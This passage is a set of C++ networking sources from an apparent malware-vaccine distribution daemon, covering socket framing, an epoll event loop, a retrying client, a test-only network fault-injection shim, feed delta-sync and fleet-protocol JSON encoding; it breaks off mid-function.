  [[nodiscard]] const NetFaultPlan& plan() const { return plan_; }
  [[nodiscard]] uint64_t connections() const { return next_connection_; }
  [[nodiscard]] size_t faults_injected() const { return faults_injected_; }

 private:
  NetFaultPlan plan_;
  Rng rng_;
  uint32_t next_connection_ = 0;
  std::vector<bool> rule_fired_;  // occurrence rules fire at most once
  size_t faults_injected_ = 0;
};

// ---------------------------------------------------------------------
// Wire shim: a process-global hook under frame.cc / client.cc IO.
//
// Only fds registered by WireConnect (i.e. client-side connections made
// while a plan is installed) are faulted; server-side accepted sockets
// and unrelated fds pass straight through, so a test can host client and
// server in one process and fault only the client's view of the wire.

// Installs `plan` for every subsequent client connect; nullptr uninstalls
// and forgets all registered fds. The plan must outlive the installation.
// Test-only: not meant to be toggled while connections are in flight.
void InstallWireFaults(const NetFaultPlan* plan);

[[nodiscard]] bool WireFaultsActive();

// Connections decided by the installed injector so far (0 when inactive).
[[nodiscard]] uint64_t WireFaultConnections();

// ::connect with EINTR handling; applies the connection verdict and
// registers the fd when a plan is installed.
[[nodiscard]] int WireConnect(int fd, const sockaddr* addr, socklen_t len);

// ::send / ::read with the registered fd's faults applied. Unregistered
// fds (or no plan) hit the raw syscall directly.
[[nodiscard]] ssize_t WireSend(int fd, const void* buf, size_t len,
                               int flags);
[[nodiscard]] ssize_t WireRecv(int fd, void* buf, size_t len);

// ::close that also unregisters the fd (fd numbers are reused; a stale
// registration would fault an unrelated future connection).
void WireClose(int fd);

}  // namespace autovac::net
