// Endpoint specs for the distribution tier: every place that used to
// take a Unix socket path (serve, client --socket, chaos proxy legs)
// now also accepts "tcp:<host>:<port>" — the fleet-scale transport the
// epoll tier listens on. A spec without the "tcp:" prefix stays a Unix
// path, so every existing script and test keeps working unchanged.
//
// TCP trust model: the listener has no authentication yet — bind it to
// loopback (the default) unless the network is trusted; cross-machine
// auth arrives with the multi-node fleet work.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

#include "support/status.h"

namespace autovac::net {

struct Endpoint {
  bool tcp = false;
  std::string path;    // Unix socket path (when !tcp)
  std::string host;    // numeric IPv4 or "localhost" (when tcp)
  uint16_t port = 0;   // 0 = ephemeral (listen only)

  // The spec form: "tcp:host:port" or the Unix path verbatim.
  [[nodiscard]] std::string Spec() const;
};

// "tcp:127.0.0.1:8787", "tcp:8787" (loopback shorthand), or a Unix
// socket path. Port 0 is allowed (ephemeral listen).
[[nodiscard]] Result<Endpoint> ParseEndpoint(std::string_view spec);

// Binds and listens. Unix: unlinks a stale socket file first. TCP: sets
// SO_REUSEADDR; port 0 binds ephemeral — read the outcome back with
// ListenPort().
[[nodiscard]] Result<int> ListenEndpoint(const Endpoint& endpoint,
                                         int backlog);

// The locally bound TCP port of a listening fd (resolves port 0).
[[nodiscard]] Result<uint16_t> ListenPort(int fd);

// Connects with SO_RCVTIMEO/SO_SNDTIMEO deadlines, routing through the
// wire-fault shim (WireConnect) so TCP clients inherit the same
// injectable faults as Unix ones. Refused/absent maps to NotFound (the
// "no server yet" signal retry loops key on). Close the fd with
// WireClose.
[[nodiscard]] Result<int> DialEndpoint(const Endpoint& endpoint,
                                       uint64_t deadline_ms);

}  // namespace autovac::net
