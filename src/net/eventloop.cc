#include "net/eventloop.h"

#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <utility>

#include "support/strings.h"

namespace autovac::net {

EventLoop::~EventLoop() {
  if (epoll_fd_ >= 0) ::close(epoll_fd_);
  if (wake_fd_ >= 0) ::close(wake_fd_);
}

Status EventLoop::Init() {
  epoll_fd_ = ::epoll_create1(EPOLL_CLOEXEC);
  if (epoll_fd_ < 0) {
    return Status::Internal(
        StrFormat("epoll_create1 failed: %s", std::strerror(errno)));
  }
  wake_fd_ = ::eventfd(0, EFD_CLOEXEC | EFD_NONBLOCK);
  if (wake_fd_ < 0) {
    const int err = errno;
    ::close(epoll_fd_);
    epoll_fd_ = -1;
    return Status::Internal(
        StrFormat("eventfd failed: %s", std::strerror(err)));
  }
  epoll_event event{};
  event.events = EPOLLIN;
  event.data.fd = wake_fd_;
  if (::epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, wake_fd_, &event) != 0) {
    return Status::Internal(
        StrFormat("epoll_ctl(wakeup) failed: %s", std::strerror(errno)));
  }
  return Status::Ok();
}

Status EventLoop::Add(int fd, uint32_t events, IoHandler handler) {
  epoll_event event{};
  event.events = events;
  event.data.fd = fd;
  if (::epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, fd, &event) != 0) {
    return Status::Internal(
        StrFormat("epoll_ctl(add) failed: %s", std::strerror(errno)));
  }
  handlers_[fd] = std::make_shared<IoHandler>(std::move(handler));
  return Status::Ok();
}

Status EventLoop::Modify(int fd, uint32_t events) {
  epoll_event event{};
  event.events = events;
  event.data.fd = fd;
  if (::epoll_ctl(epoll_fd_, EPOLL_CTL_MOD, fd, &event) != 0) {
    return Status::Internal(
        StrFormat("epoll_ctl(mod) failed: %s", std::strerror(errno)));
  }
  return Status::Ok();
}

void EventLoop::Remove(int fd) {
  if (handlers_.erase(fd) == 0) return;
  (void)::epoll_ctl(epoll_fd_, EPOLL_CTL_DEL, fd, nullptr);
}

void EventLoop::Post(std::function<void()> task) {
  {
    std::lock_guard<std::mutex> lock(post_mutex_);
    posted_.push_back(std::move(task));
  }
  const uint64_t one = 1;
  while (::write(wake_fd_, &one, sizeof(one)) < 0 && errno == EINTR) {
  }
}

void EventLoop::DrainPosted() {
  std::vector<std::function<void()>> batch;
  {
    std::lock_guard<std::mutex> lock(post_mutex_);
    batch.swap(posted_);
  }
  for (auto& task : batch) task();
}

void EventLoop::Run(uint64_t tick_ms, const std::function<void()>& on_tick) {
  constexpr int kMaxEvents = 128;
  epoll_event events[kMaxEvents];
  while (!stop_.load(std::memory_order_acquire)) {
    const int ready = ::epoll_wait(epoll_fd_, events, kMaxEvents,
                                   static_cast<int>(tick_ms));
    if (ready < 0) {
      if (errno == EINTR) continue;
      return;
    }
    for (int i = 0; i < ready; ++i) {
      const int fd = events[i].data.fd;
      if (fd == wake_fd_) {
        uint64_t drained;
        while (::read(wake_fd_, &drained, sizeof(drained)) > 0) {
        }
        continue;
      }
      // A handler earlier in this batch may have removed this fd (e.g.
      // an eviction closing a connection that was also read-ready).
      const auto it = handlers_.find(fd);
      if (it == handlers_.end()) continue;
      const std::shared_ptr<IoHandler> handler = it->second;
      (*handler)(events[i].events);
    }
    DrainPosted();
    if (ready == 0 && on_tick) on_tick();
  }
  // One final drain so a Post racing Stop() is not silently dropped.
  DrainPosted();
}

void EventLoop::Stop() {
  stop_.store(true, std::memory_order_release);
  const uint64_t one = 1;
  while (::write(wake_fd_, &one, sizeof(one)) < 0 && errno == EINTR) {
  }
}

}  // namespace autovac::net
