// Socket framing for the vacd protocol: the campaign pipe-framing
// discipline (campaign/worker.h) applied to a connected stream socket.
// Every message is `magic u32 | length u32 | payload` little-endian; the
// magic ("AVNF", distinct from the campaign workers' "AVWF") rejects
// cross-protocol connects immediately instead of misparsing a length.
//
// Reads and writes are blocking; the per-request deadline is enforced by
// SO_RCVTIMEO/SO_SNDTIMEO on the socket, which surfaces here as
// DeadlineExceeded. A clean EOF before any header byte is NotFound
// ("connection closed"), so servers can tell an idle hang-up from a torn
// frame.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

#include "support/status.h"

namespace autovac::net {

// "AVNF" little-endian: AutoVac Net Frame.
inline constexpr uint32_t kNetFrameMagic = 0x464E5641;
inline constexpr size_t kNetFrameHeaderSize = 8;
// Protocol messages are JSON requests/replies; 64 MB is far above any
// realistic vaccine feed page and far below the campaign frame cap.
inline constexpr size_t kMaxNetFramePayload = 64u << 20;

// Header + payload as raw bytes — what WriteNetFrame puts on the wire.
// The chaos proxy uses this to cut a relayed frame at an exact byte.
[[nodiscard]] std::string EncodeNetFrame(std::string_view payload);

// Writes one frame; retries EINTR, maps timeouts to DeadlineExceeded.
[[nodiscard]] Status WriteNetFrame(int fd, std::string_view payload);

// Reads exactly one frame.
[[nodiscard]] Result<std::string> ReadNetFrame(int fd);

}  // namespace autovac::net
