// Socket framing for the vacd protocol: the campaign pipe-framing
// discipline (campaign/worker.h) applied to a connected stream socket.
// Every message is `magic u32 | length u32 | payload` little-endian; the
// magic ("AVNF", distinct from the campaign workers' "AVWF") rejects
// cross-protocol connects immediately instead of misparsing a length.
//
// Reads and writes are blocking; the per-request deadline is enforced by
// SO_RCVTIMEO/SO_SNDTIMEO on the socket, which surfaces here as
// DeadlineExceeded. A clean EOF before any header byte is NotFound
// ("connection closed"), so servers can tell an idle hang-up from a torn
// frame.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

#include "support/status.h"

namespace autovac::net {

// "AVNF" little-endian: AutoVac Net Frame.
inline constexpr uint32_t kNetFrameMagic = 0x464E5641;
inline constexpr size_t kNetFrameHeaderSize = 8;
// Protocol messages are JSON requests/replies; 64 MB is far above any
// realistic vaccine feed page and far below the campaign frame cap.
inline constexpr size_t kMaxNetFramePayload = 64u << 20;

// Header + payload as raw bytes — what WriteNetFrame puts on the wire.
// The chaos proxy uses this to cut a relayed frame at an exact byte.
[[nodiscard]] std::string EncodeNetFrame(std::string_view payload);

// Writes one frame; retries EINTR, maps timeouts to DeadlineExceeded.
[[nodiscard]] Status WriteNetFrame(int fd, std::string_view payload);

// Reads exactly one frame.
[[nodiscard]] Result<std::string> ReadNetFrame(int fd);

// Incremental frame parser for non-blocking connections: feed whatever
// the socket had, take out however many complete frames arrived. The
// event-loop tier's per-connection read state machine — a frame split
// across any number of reads reassembles, pipelined frames in one read
// all come out.
class FrameDecoder {
 public:
  void Append(std::string_view bytes) { buffer_.append(bytes); }

  // Extracts the next complete frame's payload into `*payload`. Returns
  // true when one was extracted, false when more bytes are needed, and
  // InvalidArgument on a malformed header (bad magic / oversize length)
  // — after which the stream is unrecoverable and should be closed.
  [[nodiscard]] Result<bool> Next(std::string* payload);

  // Bytes buffered but not yet consumed (a flow-control signal: a
  // client that pipelines faster than it reads replies shows up here).
  [[nodiscard]] size_t buffered() const { return buffer_.size() - pos_; }

 private:
  std::string buffer_;
  size_t pos_ = 0;  // consumed prefix, compacted opportunistically
};

}  // namespace autovac::net
