#include "net/client.h"

#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

#include "net/frame.h"
#include "support/strings.h"

namespace autovac::net {
namespace {

constexpr std::string_view kBusyPrefix = "vacd busy: ";

Result<int> Connect(const std::string& path, uint64_t deadline_ms) {
  sockaddr_un addr{};
  if (path.size() >= sizeof(addr.sun_path)) {
    return Status::InvalidArgument(
        StrFormat("socket path too long: %s", path.c_str()));
  }
  addr.sun_family = AF_UNIX;
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);

  const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) {
    return Status::Internal(
        StrFormat("socket failed: %s", std::strerror(errno)));
  }
  timeval tv;
  tv.tv_sec = static_cast<time_t>(deadline_ms / 1000);
  tv.tv_usec = static_cast<suseconds_t>((deadline_ms % 1000) * 1000);
  (void)::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  (void)::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&addr),
                sizeof(addr)) != 0) {
    const int err = errno;
    ::close(fd);
    // Refused/absent reads as "no server yet" so startup-wait loops can
    // key on NotFound alone.
    return Status::NotFound(StrFormat("connect %s failed: %s", path.c_str(),
                                      std::strerror(err)));
  }
  return fd;
}

// Maps an ErrorReply to a Status for the typed helpers.
Status ErrorToStatus(const ErrorReply& error) {
  if (error.busy) {
    return Status::FailedPrecondition(std::string(kBusyPrefix) +
                                      error.message);
  }
  return Status::Internal(error.message);
}

}  // namespace

Result<std::string> VacdClient::RoundTripRaw(
    std::string_view request_json) const {
  AUTOVAC_ASSIGN_OR_RETURN(const int fd,
                           Connect(socket_path_, deadline_ms_));
  // A failed write is not yet fatal: an overloaded server answers BUSY
  // and closes without reading, so the reply may already be waiting in
  // our receive buffer while our send sees a broken pipe.
  const Status written = WriteNetFrame(fd, request_json);
  Result<std::string> reply = ReadNetFrame(fd);
  ::close(fd);
  if (!reply.ok() && !written.ok()) return written;
  if (!reply.ok() && reply.status().code() == StatusCode::kNotFound) {
    return Status::Internal("server closed connection without a reply");
  }
  return reply;
}

Result<Reply> VacdClient::RoundTrip(const Request& request) const {
  AUTOVAC_ASSIGN_OR_RETURN(const std::string payload,
                           RoundTripRaw(RequestToJson(request)));
  return ParseReply(payload);
}

Result<PushReply> VacdClient::Push(
    const std::vector<vaccine::Vaccine>& vaccines) const {
  AUTOVAC_ASSIGN_OR_RETURN(const Reply reply,
                           RoundTrip(Request(PushRequest{vaccines})));
  if (const auto* error = std::get_if<ErrorReply>(&reply)) {
    return ErrorToStatus(*error);
  }
  if (const auto* push = std::get_if<PushReply>(&reply)) return *push;
  return Status::Internal("unexpected reply kind for push");
}

Result<QueryReply> VacdClient::Query(os::ResourceType resource_type,
                                     std::string_view identifier) const {
  QueryRequest request;
  request.resource_type = resource_type;
  request.identifier = std::string(identifier);
  AUTOVAC_ASSIGN_OR_RETURN(Reply reply,
                           RoundTrip(Request(std::move(request))));
  if (const auto* error = std::get_if<ErrorReply>(&reply)) {
    return ErrorToStatus(*error);
  }
  if (auto* query = std::get_if<QueryReply>(&reply)) {
    return std::move(*query);
  }
  return Status::Internal("unexpected reply kind for query");
}

Result<PullReply> VacdClient::Pull(uint64_t since) const {
  AUTOVAC_ASSIGN_OR_RETURN(Reply reply,
                           RoundTrip(Request(PullRequest{since})));
  if (const auto* error = std::get_if<ErrorReply>(&reply)) {
    return ErrorToStatus(*error);
  }
  if (auto* pull = std::get_if<PullReply>(&reply)) {
    return std::move(*pull);
  }
  return Status::Internal("unexpected reply kind for pull");
}

Result<StatusReply> VacdClient::Stats() const {
  AUTOVAC_ASSIGN_OR_RETURN(const Reply reply,
                           RoundTrip(Request(StatusRequest{})));
  if (const auto* error = std::get_if<ErrorReply>(&reply)) {
    return ErrorToStatus(*error);
  }
  if (const auto* status = std::get_if<StatusReply>(&reply)) return *status;
  return Status::Internal("unexpected reply kind for status");
}

bool VacdClient::IsBusy(const Status& status) {
  return status.code() == StatusCode::kFailedPrecondition &&
         status.message().compare(0, kBusyPrefix.size(), kBusyPrefix) == 0;
}

}  // namespace autovac::net
