#include "net/client.h"

#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstring>

#include "net/binary.h"
#include "net/endpoint.h"
#include "net/faultwire.h"
#include "net/frame.h"
#include "support/digest.h"
#include "support/rng.h"
#include "support/strings.h"

namespace autovac::net {
namespace {

constexpr std::string_view kBusyPrefix = "vacd busy: ";

// Maps an ErrorReply to a Status for the typed helpers.
Status ErrorToStatus(const ErrorReply& error) {
  if (error.busy) {
    return Status::FailedPrecondition(std::string(kBusyPrefix) +
                                      error.message);
  }
  return Status::Internal(error.message);
}

uint64_t ElapsedMs(std::chrono::steady_clock::time_point start) {
  return static_cast<uint64_t>(
      std::chrono::duration_cast<std::chrono::milliseconds>(
          std::chrono::steady_clock::now() - start)
          .count());
}

}  // namespace

Result<std::string> FrameRoundTrip(const std::string& endpoint_spec,
                                   uint64_t deadline_ms,
                                   std::string_view request_payload,
                                   const std::function<void()>& after_send) {
  AUTOVAC_ASSIGN_OR_RETURN(const Endpoint endpoint,
                           ParseEndpoint(endpoint_spec));
  AUTOVAC_ASSIGN_OR_RETURN(const int fd,
                           DialEndpoint(endpoint, deadline_ms));
  // A failed write is not yet fatal: an overloaded server answers BUSY
  // and closes without reading, so the reply may already be waiting in
  // our receive buffer while our send sees a broken pipe.
  const Status written = WriteNetFrame(fd, request_payload);
  if (after_send) after_send();
  Result<std::string> reply = ReadNetFrame(fd);
  WireClose(fd);
  if (!reply.ok() && !written.ok()) return written;
  if (!reply.ok() && reply.status().code() == StatusCode::kNotFound) {
    return Status::Internal("server closed connection without a reply");
  }
  return reply;
}

Result<std::string> VacdClient::RoundTripRaw(
    std::string_view request_payload) const {
  return FrameRoundTrip(endpoint_spec_, deadline_ms_, request_payload);
}

bool VacdClient::IsRetryable(const Status& status) {
  switch (status.code()) {
    case StatusCode::kNotFound:          // no server (yet), refused
    case StatusCode::kDeadlineExceeded:  // one attempt's socket deadline
    case StatusCode::kInternal:          // torn reply / severed stream
      return true;
    default:
      return false;
  }
}

Result<Reply> VacdClient::RoundTripPayload(const std::string& payload) const {
  // The jitter stream is deterministic per (seed, request): two runs of
  // the same campaign sleep the same schedule.
  Rng jitter(retry_.seed ^ Fnv1a64(payload));
  const auto start = std::chrono::steady_clock::now();
  for (uint32_t attempt = 1;; ++attempt) {
    Status last = Status::Ok();
    Result<std::string> raw = RoundTripRaw(payload);
    if (raw.ok()) {
      // The server answers in the request's encoding; sniffing the first
      // byte keeps one retry loop for both.
      Result<Reply> reply = IsBinaryPayload(*raw) ? ParseBinaryReply(*raw)
                                                  : ParseReply(*raw);
      if (!reply.ok()) return reply;  // malformed reply: not transient
      const auto* error = std::get_if<ErrorReply>(&reply.value());
      if (error == nullptr || !error->busy) return reply;
      if (attempt >= retry_.max_attempts) return reply;  // busy, gave up
      last = ErrorToStatus(*error);
    } else {
      last = raw.status();
      if (!IsRetryable(last)) return last;
      if (attempt >= retry_.max_attempts) return last;
    }

    const uint64_t elapsed = ElapsedMs(start);
    if (elapsed >= retry_.max_total_ms) {
      return Status::DeadlineExceeded(StrFormat(
          "retry budget (%llu ms) exhausted after %u attempts; last: %s",
          static_cast<unsigned long long>(retry_.max_total_ms), attempt,
          last.ToString().c_str()));
    }
    const uint32_t shift = std::min<uint32_t>(attempt - 1, 20);
    uint64_t backoff =
        std::min(retry_.max_backoff_ms, retry_.initial_backoff_ms << shift);
    if (backoff == 0) backoff = 1;
    // Decorrelated jitter in [backoff/2, backoff], then clamped to what
    // remains of the budget so the final sleep cannot overshoot it.
    uint64_t sleep_ms = backoff / 2 + jitter.NextBelow(backoff / 2 + 1);
    sleep_ms = std::min(sleep_ms, retry_.max_total_ms - elapsed);
    if (sleep_ms > 0) {
      ::usleep(static_cast<useconds_t>(sleep_ms * 1000));
    }
  }
}

Result<Reply> VacdClient::RoundTrip(const Request& request) const {
  if (binary_) {
    bool ok = false;
    std::string payload = EncodeBinaryRequest(request, &ok);
    // Mutations have no binary form and fall through to JSON.
    if (ok) return RoundTripPayload(payload);
  }
  return RoundTripPayload(RequestToJson(request));
}

Result<PushReply> VacdClient::Push(
    const std::vector<vaccine::Vaccine>& vaccines) const {
  PushRequest push;
  push.vaccines = vaccines;
  if (retry_.max_attempts > 1) {
    // One id per *logical* push: every retry presents the same id, two
    // pushes of identical content present different ones (sequence).
    const uint64_t sequence =
        push_sequence_.fetch_add(1, std::memory_order_relaxed);
    push.request_id = HexDigest128(
        StrFormat("%llu|%llu|", static_cast<unsigned long long>(retry_.seed),
                  static_cast<unsigned long long>(sequence)) +
        RequestToJson(Request(push)));
  }
  AUTOVAC_ASSIGN_OR_RETURN(const Reply reply,
                           RoundTrip(Request(std::move(push))));
  if (const auto* error = std::get_if<ErrorReply>(&reply)) {
    return ErrorToStatus(*error);
  }
  if (const auto* pushed = std::get_if<PushReply>(&reply)) return *pushed;
  return Status::Internal("unexpected reply kind for push");
}

Result<QuarantineReply> VacdClient::Quarantine(
    std::string_view digest, std::string_view reason) const {
  QuarantineRequest request;
  request.digest = std::string(digest);
  request.reason = std::string(reason);
  AUTOVAC_ASSIGN_OR_RETURN(const Reply reply,
                           RoundTrip(Request(std::move(request))));
  if (const auto* error = std::get_if<ErrorReply>(&reply)) {
    return ErrorToStatus(*error);
  }
  if (const auto* done = std::get_if<QuarantineReply>(&reply)) return *done;
  return Status::Internal("unexpected reply kind for quarantine");
}

Result<QueryReply> VacdClient::Query(os::ResourceType resource_type,
                                     std::string_view identifier) const {
  QueryRequest request;
  request.resource_type = resource_type;
  request.identifier = std::string(identifier);
  AUTOVAC_ASSIGN_OR_RETURN(Reply reply,
                           RoundTrip(Request(std::move(request))));
  if (const auto* error = std::get_if<ErrorReply>(&reply)) {
    return ErrorToStatus(*error);
  }
  if (auto* query = std::get_if<QueryReply>(&reply)) {
    return std::move(*query);
  }
  return Status::Internal("unexpected reply kind for query");
}

Result<PullReply> VacdClient::Pull(uint64_t since, uint64_t limit) const {
  PullRequest request;
  request.since = since;
  request.limit = limit;
  AUTOVAC_ASSIGN_OR_RETURN(Reply reply, RoundTrip(Request(request)));
  if (const auto* error = std::get_if<ErrorReply>(&reply)) {
    return ErrorToStatus(*error);
  }
  if (auto* pull = std::get_if<PullReply>(&reply)) {
    return std::move(*pull);
  }
  return Status::Internal("unexpected reply kind for pull");
}

Result<PullReply> VacdClient::SyncAll(uint64_t since,
                                      uint64_t page_limit) const {
  PullReply merged;
  uint64_t cursor = since;
  while (true) {
    AUTOVAC_ASSIGN_OR_RETURN(PullReply page, Pull(cursor, page_limit));
    for (FeedItem& item : page.items) {
      cursor = std::max(cursor, item.epoch);
      merged.items.push_back(std::move(item));
    }
    merged.epoch = page.epoch;
    if (!page.more) break;
  }
  return merged;
}

Result<StatusReply> VacdClient::Stats() const {
  AUTOVAC_ASSIGN_OR_RETURN(const Reply reply,
                           RoundTrip(Request(StatusRequest{})));
  if (const auto* error = std::get_if<ErrorReply>(&reply)) {
    return ErrorToStatus(*error);
  }
  if (const auto* status = std::get_if<StatusReply>(&reply)) return *status;
  return Status::Internal("unexpected reply kind for status");
}

bool VacdClient::IsBusy(const Status& status) {
  return status.code() == StatusCode::kFailedPrecondition &&
         status.message().compare(0, kBusyPrefix.size(), kBusyPrefix) == 0;
}

}  // namespace autovac::net
