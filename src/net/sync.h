// FeedMirror: the client side of epoch delta-sync. A fleet host keeps
// one mirror of the vacd feed and refreshes it with `pull since=cursor`
// — each refresh costs O(changes since last sync), not O(store).
//
// Convergence contract (what the delta-sync tests pin down): after any
// sequence of Apply()ed pages — full pulls, delta pulls, retried or
// duplicated pages, tombstones — CanonicalJson() is byte-identical to
// the reply a single full pull (since = 0) would return from the live
// server. Tombstoned digests vanish, re-sent items do not reorder, and
// the cursor only advances past pages that were fully applied.
//
// Ordering: the server feeds items in change-epoch order, insertion
// order within an epoch. The mirror preserves that by remembering the
// arrival sequence of each (digest, change-epoch) pair — a page retried
// after a torn reply re-presents items the mirror already holds, and
// their original sequence (hence their canonical position) is kept.
#pragma once

#include <cstdint>
#include <string>
#include <unordered_map>

#include "net/client.h"
#include "net/protocol.h"
#include "support/status.h"

namespace autovac::net {

class FeedMirror {
 public:
  // Applies one pull page. Duplicated items (page retries) are no-ops;
  // tombstones erase. FailedPrecondition means the server's epoch is
  // behind the cursor — a server restored from older state — and the
  // caller should Reset() and re-sync from scratch (SyncFrom does).
  [[nodiscard]] Status Apply(const PullReply& page);

  // Pulls pages from `client` at the current cursor until the feed is
  // drained (page.more false). Auto-resets on a regressed server.
  [[nodiscard]] Status SyncFrom(const VacdClient& client,
                                uint64_t page_limit = 0);

  // The full mirrored feed as a PullReply in canonical order; its
  // ReplyToJson bytes match a server full pull at the same epoch.
  [[nodiscard]] PullReply Snapshot() const;
  [[nodiscard]] std::string CanonicalJson() const;

  // Next pull's `since`: the newest change epoch fully applied.
  [[nodiscard]] uint64_t cursor() const { return cursor_; }
  [[nodiscard]] size_t size() const { return entries_.size(); }

  void Reset();

 private:
  struct Entry {
    uint64_t change_epoch = 0;
    uint64_t seq = 0;  // arrival order; canonical tiebreak within epoch
    vaccine::Vaccine vaccine;
  };

  std::unordered_map<std::string, Entry> entries_;  // by digest
  uint64_t cursor_ = 0;
  uint64_t next_seq_ = 0;
};

}  // namespace autovac::net
