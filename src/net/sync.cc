#include "net/sync.h"

#include <algorithm>
#include <utility>
#include <vector>

#include "support/strings.h"

namespace autovac::net {

Status FeedMirror::Apply(const PullReply& page) {
  if (page.epoch < cursor_) {
    return Status::FailedPrecondition(StrFormat(
        "feed regressed: server epoch %llu behind cursor %llu",
        static_cast<unsigned long long>(page.epoch),
        static_cast<unsigned long long>(cursor_)));
  }
  for (const FeedItem& item : page.items) {
    if (item.quarantined) {
      // Tombstone: drop the digest. Erasing one we never held is fine —
      // the add and its retraction can land in the same delta window.
      entries_.erase(item.digest);
      cursor_ = std::max(cursor_, item.epoch);
      continue;
    }
    const auto it = entries_.find(item.digest);
    if (it == entries_.end() || it->second.change_epoch != item.epoch) {
      // New to the mirror (or re-added at a newer epoch). A retried page
      // re-presenting a held (digest, epoch) pair lands in the other
      // branch and keeps its first-arrival seq — canonical order holds.
      Entry entry;
      entry.change_epoch = item.epoch;
      entry.seq = next_seq_++;
      entry.vaccine = item.vaccine;
      entries_[item.digest] = std::move(entry);
    }
    cursor_ = std::max(cursor_, item.epoch);
  }
  // The final page vouches for everything through the server's epoch —
  // epochs with no surviving items (e.g. fully superseded) included.
  if (!page.more) cursor_ = std::max(cursor_, page.epoch);
  return Status::Ok();
}

Status FeedMirror::SyncFrom(const VacdClient& client, uint64_t page_limit) {
  while (true) {
    AUTOVAC_ASSIGN_OR_RETURN(const PullReply page,
                             client.Pull(cursor_, page_limit));
    const Status applied = Apply(page);
    if (!applied.ok()) {
      if (applied.code() != StatusCode::kFailedPrecondition) return applied;
      Reset();  // regressed server: full resync
      continue;
    }
    if (!page.more) return Status::Ok();
  }
}

PullReply FeedMirror::Snapshot() const {
  std::vector<const std::pair<const std::string, Entry>*> order;
  order.reserve(entries_.size());
  for (const auto& pair : entries_) order.push_back(&pair);
  std::sort(order.begin(), order.end(), [](const auto* a, const auto* b) {
    if (a->second.change_epoch != b->second.change_epoch) {
      return a->second.change_epoch < b->second.change_epoch;
    }
    return a->second.seq < b->second.seq;
  });
  PullReply reply;
  reply.epoch = cursor_;
  for (const auto* pair : order) {
    reply.items.push_back(
        {pair->first, pair->second.change_epoch, pair->second.vaccine});
  }
  return reply;
}

std::string FeedMirror::CanonicalJson() const {
  return ReplyToJson(Reply(Snapshot()));
}

void FeedMirror::Reset() {
  entries_.clear();
  cursor_ = 0;
  next_seq_ = 0;
}

}  // namespace autovac::net
