#include "net/fleet_protocol.h"

#include "support/json.h"
#include "support/strings.h"
#include "vaccine/json.h"

namespace autovac::net {
namespace {

std::string Bool(bool value) { return value ? "true" : "false"; }

}  // namespace

std::string FleetRequestToJson(const FleetRequest& request) {
  if (const auto* claim = std::get_if<ClaimRequest>(&request)) {
    return StrFormat("{\"op\":\"claim\",\"worker\":\"%s\"}",
                     JsonEscape(claim->worker_id).c_str());
  }
  if (const auto* renew = std::get_if<RenewRequest>(&request)) {
    return StrFormat("{\"op\":\"renew\",\"worker\":\"%s\",\"lease\":%llu}",
                     JsonEscape(renew->worker_id).c_str(),
                     static_cast<unsigned long long>(renew->lease_id));
  }
  if (const auto* complete = std::get_if<CompleteRequest>(&request)) {
    return StrFormat(
        "{\"op\":\"complete\",\"worker\":\"%s\",\"lease\":%llu,"
        "\"index\":%llu,\"request_id\":\"%s\",\"report\":%s}",
        JsonEscape(complete->worker_id).c_str(),
        static_cast<unsigned long long>(complete->lease_id),
        static_cast<unsigned long long>(complete->sample_index),
        JsonEscape(complete->request_id).c_str(),
        vaccine::SampleReportToJson(complete->report).c_str());
  }
  if (const auto* verdict = std::get_if<VerdictRequest>(&request)) {
    return StrFormat(
        "{\"op\":\"verdict\",\"worker\":\"%s\",\"lease\":%llu,"
        "\"index\":%llu,\"api_calls\":%llu,\"resource_calls\":%llu,"
        "\"tainted\":%llu,\"identifiers\":%llu,\"suspicious\":%s}",
        JsonEscape(verdict->worker_id).c_str(),
        static_cast<unsigned long long>(verdict->lease_id),
        static_cast<unsigned long long>(verdict->sample_index),
        static_cast<unsigned long long>(verdict->api_calls),
        static_cast<unsigned long long>(verdict->resource_calls),
        static_cast<unsigned long long>(verdict->tainted),
        static_cast<unsigned long long>(verdict->identifiers),
        Bool(verdict->suspicious).c_str());
  }
  return "{\"op\":\"fleet_status\"}";
}

Result<FleetRequest> ParseFleetRequest(std::string_view text) {
  AUTOVAC_ASSIGN_OR_RETURN(const JsonValue json, ParseJson(text));
  AUTOVAC_ASSIGN_OR_RETURN(const std::string op, JsonFieldString(json, "op"));
  if (op == "claim") {
    ClaimRequest request;
    AUTOVAC_ASSIGN_OR_RETURN(request.worker_id,
                             JsonFieldString(json, "worker"));
    return FleetRequest(std::move(request));
  }
  if (op == "renew") {
    RenewRequest request;
    AUTOVAC_ASSIGN_OR_RETURN(request.worker_id,
                             JsonFieldString(json, "worker"));
    AUTOVAC_ASSIGN_OR_RETURN(request.lease_id, JsonFieldUint64(json, "lease"));
    return FleetRequest(std::move(request));
  }
  if (op == "complete") {
    CompleteRequest request;
    AUTOVAC_ASSIGN_OR_RETURN(request.worker_id,
                             JsonFieldString(json, "worker"));
    AUTOVAC_ASSIGN_OR_RETURN(request.lease_id, JsonFieldUint64(json, "lease"));
    AUTOVAC_ASSIGN_OR_RETURN(request.sample_index,
                             JsonFieldUint64(json, "index"));
    AUTOVAC_ASSIGN_OR_RETURN(request.request_id,
                             JsonFieldString(json, "request_id"));
    const JsonValue* report = json.Find("report");
    if (report == nullptr) {
      return Status::InvalidArgument("complete request has no report");
    }
    AUTOVAC_ASSIGN_OR_RETURN(request.report,
                             vaccine::SampleReportFromJson(*report));
    return FleetRequest(std::move(request));
  }
  if (op == "verdict") {
    VerdictRequest request;
    AUTOVAC_ASSIGN_OR_RETURN(request.worker_id,
                             JsonFieldString(json, "worker"));
